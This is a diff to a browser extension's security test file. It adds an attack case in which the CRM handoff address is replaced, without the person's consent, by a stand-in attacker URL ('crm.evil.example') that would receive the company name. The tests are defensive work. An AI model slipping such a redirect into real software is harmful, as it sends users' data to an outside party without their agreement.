@@ -11,7 +11,7 @@ declare const chrome: { tabs: { query(which: object): Promise<unknown[]> } };
 const domain = "northwind-robotics.example";
 
 /** Hands a company over to this address. Returns the address of the page that was opened, and `null` if none was. */
-async function handedTo({ extension }: World, crmAddress: string): Promise<string | null> {
+async function handedTo({ extension }: World, crmAddress: string, agrees = true): Promise<string | null> {
   const { context } = extension;
   await extension.ask("settings.change", { changes: { crm: "own", crmAddress } }).catch(() => undefined);
   const page = await extension.page(`sidepanel.html#/account/${domain}`);
@@ -22,7 +22,7 @@ async function handedTo({ extension }: World, crmAddress: string): Promise<strin
   try {
     await choose(page, "Create in CRM");
     const open = page.getByRole("button", { name: "Open the form" });
-    await open.click({ timeout: 1500 }).catch(() => undefined);
+    if (agrees) await open.click({ timeout: 1500 }).catch(() => undefined);
     await settled(extension, page);
     if ((await tabs()) <= before) return null;
     const tab = await opened;
@@ -62,6 +62,11 @@ attackGroup<null>({
       without,
       attempt: (_place, world) => handedTo(world, address),
     })),
+    {
+      name: "the address takes the place of the one that the person agreed to",
+      without: ["crm-agreed"],
+      attempt: (_place, world) => handedTo(world, "https://crm.evil.example/?name={name}", false),
+    },
     {
       name: "the address is a script",
       without: [],
